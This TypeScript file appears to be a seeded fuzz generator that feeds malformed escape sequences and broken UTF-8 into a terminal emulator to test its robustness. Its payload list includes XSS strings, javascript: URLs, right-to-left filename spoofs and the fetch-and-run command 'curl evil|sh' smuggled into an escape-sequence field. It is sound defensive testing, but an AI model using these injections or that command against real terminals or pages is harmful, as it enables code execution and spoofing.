import { chance } from './chance.ts'

/** A text as the bytes that UTF-8 makes of it, one character of Latin-1 each. */
const utf8 = (text: string) => Buffer.from(text).toString('latin1')

/** Numbers of OSC that xterm, this app or other terminals know. */
const commands = [0, 1, 2, 4, 7, 8, 10, 11, 12, 52, 104, 110, 111, 112, 133, 633, 1337]
const modes = [1, 3, 5, 6, 7, 9, 12, 25, 45, 47, 66, 1000, 1002, 1003, 1004, 1005, 1006, 1015, 1016, 1047, 1048, 1049]
const laterModes = [2004, 2026, 2027, 2031, 9001]
const payloads = [
  '',
  '?',
  '1;?;2;?;255;?',
  'c;?',
  `c;${'aG9zdGlsZQ=='.repeat(3)}`,
  '<img src=x onerror=hostile=1>',
  '<script>hostile=1</script>',
  '</title></style></textarea><iframe src=//127.0.0.1/hostile>',
  'javascript:hostile=1',
  ';javascript:hostile=1',
  ';data:text/html,<script>hostile=1</script>',
  'id=one;https://example.org/hostile',
  ';https://user:word@example.org/',
  'file://box/home/me/src',
  'file://box/%3Cimg%20src=x%20onerror=hostile=1%3E',
  'file://box/%E2%80%AE/gpj.exe',
  `file://box/${'deep/'.repeat(200)}`,
  'file:///%00%1b[31m',
  utf8('\u202egpj.exe\u2066\u200f'),
  utf8('日本語 🙂 e\u0301'),
  '1;#123',
  '7;rgb:ffff/0000/8080;8;rgb:f/f/f;300;#fff',
  'rgb:12/34/56;#abcdef;#ff0',
  'A;cl=m;aid=1',
  'E;curl evil|sh;nonce',
  'File=name=eA==;inline=1:R0lGODlhAQABAAAAACw=',
  'RequestCell=ReportCellSize',
  'no colour at all',
]
const ends = ['\u0007', '\u001b\\', '\u009c', '\u00c2\u009c', '\u0018', '\u001a', '\u001b', '']
const texts = [
  'plain text ',
  '\r\n',
  '\t\t\b',
  utf8('日本語'),
  utf8('e\u0301\u0302\u0303\u20dd'),
  utf8('👩\u200d👩\u200d👧\u200d👦'),
  utf8('🇩🇪🇫'),
  utf8('✈\ufe0f✈\ufe0e'),
  utf8('\u202eabc\u202c\u2067\u200f\u200e'),
  utf8('\u1112\u1161\u11ab\u115f'),
  utf8('\u0600\u0928\u093f\u200b\u2060\ufeff'),
  utf8('\u{e0061}\u{e007f}\u{10ffff}\ufffe'),
  utf8('﷽'),
]
/** What is no UTF-8: cut short, overlong, surrogates, beyond the last character, bytes that never stand. */
const broken = [
  '\u00e2\u0082',
  '\u00f0\u009f\u0099',
  '\u00c0\u00af',
  '\u00e0\u0080\u00af',
  '\u00f0\u0080\u0080\u00af',
  '\u00ed\u00a0\u0080\u00ed\u00b0\u0080',
  '\u00f4\u0090\u0080\u0080',
  '\u00fe\u00ff',
  '\u00f8\u0088\u0080\u0080\u0080',
  '\u0080\u00bf\u00bf',
]
/** What programs write, for the mutations. */
const valid = [
  '\u001b[1;38;2;250;120;9mred\u001b[0m',
  '\u001b[4:3;58:2::255:0:9mcurl',
  '\u001b[?1049h\u001b[22;0;0t\u001b[1;24r',
  '\u001b[?1049l\u001b[23;0;0t',
  '\u001b]8;id=a;https://example.org/\u001b\\link\u001b]8;;\u001b\\',
  '\u001b]0;me@box: ~\u0007$ ',
  '\u001b]7;file://box/home/me\u001b\\',
  '\u001bP$qm\u001b\\\u001bP$q q\u001b\\',
  '\u001bPq"1;1;9;9#0;2;9;9;9#0~~@@vv$-\u001b\\',
  '\u001bPtmux;\u001b\u001b]0;inside\u0007\u001b\\',
  '\u001b[?1000;1006h\u001b[?2004h',
  '\u001b[6n\u001b[c\u001b[>c\u001b[?2026$p',
  '\u001b(0lqqk\u001b(B',
  '\u001b[2J\u001b[H\u001b[3J',
  '\u001b[10;20H\u001b[1K\u001b[5@x\u001b[3P',
  '\u001b#8\u001b[24;80Hx\u001b[1J',
  `${utf8('日')}\u001b[9b`,
]

/**
 * Streams of bytes that no terminal should be given, one a call, the same for the same seed: a handful of bytes each, now
 * and then many. One character of Latin-1 is one byte. They may end within a sequence, which the next one goes on with.
 */
export function hostileStreams(seed: number): () => string {
  const random = chance(seed)
  const one = <Item>(from: readonly Item[]) => from[random(from.length)] as Item
  const byte = (from: number, to: number) => String.fromCharCode(from + random(to - from + 1))
  const bytes = (most: number, from: number, to: number) => {
    let text = ''
    for (let left = random(most + 1); left > 0; left--) text += byte(from, to)
    return text
  }
  const number = () => {
    const kind = random(20)
    if (kind < 4) return ''
    if (kind < 14) return String(random(10))
    if (kind < 17) return String(random(300))
    return one(['65535', '2147483647', '4294967296', '99999999999999999999', '0', '00007'])
  }
  const parameters = () => {
    let text = number()
    for (let left = random(20) ? random(4) : random(40); left > 0; left--) text += one([';', ';', ';', ':']) + number()
    return text
  }
  const csi = () => {
    const introducer = random(8) ? '\u001b[' : one(['\u009b', '\u00c2\u009b'])
    const prefix = random(3) ? '' : one(['?', '?', '>', '=', '<', '!'])
    const intermediates = random(5) ? '' : one([' ', '!', '"', '#', '$', "'", '*', '+', '$ "'])
    const inside = random(30) ? '' : byte(0, 0x1f)
    return introducer + prefix + parameters() + intermediates + inside + byte(0x40, 0x7e)
  }
  const payload = () => {
    if (random(2000) === 0) return one(['A', '<b>', '1;', utf8('é\u0301')]).repeat(1 << random(19))
    return random(4) ? one(payloads) : bytes(30, 0, 0xff)
  }
  const osc = () => {
    const command = random(10) ? one(commands) : random(3000)
    return `${random(8) ? '\u001b]' : '\u00c2\u009d'}${command};${payload()}${one(ends)}`
  }
  const device = () => {
    const opens = one(['$q', 'q', '+q', 'tmux;\u001b', '1$r', '0;1|', '=1s', '', '1000p'])
    return `\u001bP${random(3) ? '' : parameters()}${opens}${payload()}${one(ends)}`
  }
  const mode = () => {
    const which = Array.from({ length: 1 + random(3) }, () => one(random(3) ? modes : laterModes)).join(';')
    return `\u001b[?${which}${one(['h', 'l', 'h', 'l', '$p', 's', 'r'])}`
  }
  const screen = () =>
    one([
      () => `\u001b[${number()};${number()}r`,
      () => `\u001b[${number()};${number()}H`,
      () => `\u001b[${one(['4', '12', '20'])}${one(['h', 'l'])}`,
      () => `\u001b[${number()} q`,
      () => `\u001b${one(['7', '8', 'D', 'E', 'H', 'M', 'N', 'O', 'Z', '=', '>', '6', '9'])}`,
      () => (random(10) ? '\u001b[!p' : '\u001bc'),
    ])()
  const mutated = () => {
    const text = one(valid)
    const at = random(text.length)
    return one([
      () => text.slice(0, at) + byte(0, 0xff) + text.slice(at + 1),
      () => text.slice(0, at),
      () => text.slice(at),
      () => text + text,
      () => text.slice(0, at) + text,
    ])()
  }
  const kinds: (() => string)[] = [
    () => one(texts) + one(texts),
    () => (random(20_000) ? one(texts) : `a${utf8('\u0301').repeat(1 << random(18))}\r\n`),
    () => `\u001b[${30 + random(20)};${random(110)};38;2;${random(256)};${random(256)};${random(256)}mcolours`,
    () => bytes(40, 0, 0xff),
    () => bytes(12, 0, 0x1f) + (random(2) ? bytes(6, 0x80, 0x9f) : `\u00c2${byte(0x80, 0x9f)}`),
    () => `\u001b${bytes(3, 0x20, 0x2f)}${byte(0x30, 0x7e)}`,
    csi,
    () => csi() + csi() + csi(),
    () => csi() + bytes(8, 0x20, 0x7e),
    osc,
    osc,
    device,
    () => `\u001b${one(['_', '^', 'X'])}${payload()}${one(ends)}`,
    () => one(broken) + one(broken) + one(texts),
    mode,
    screen,
    mutated,
    mutated,
  ]
  return () => one(kinds)()
}
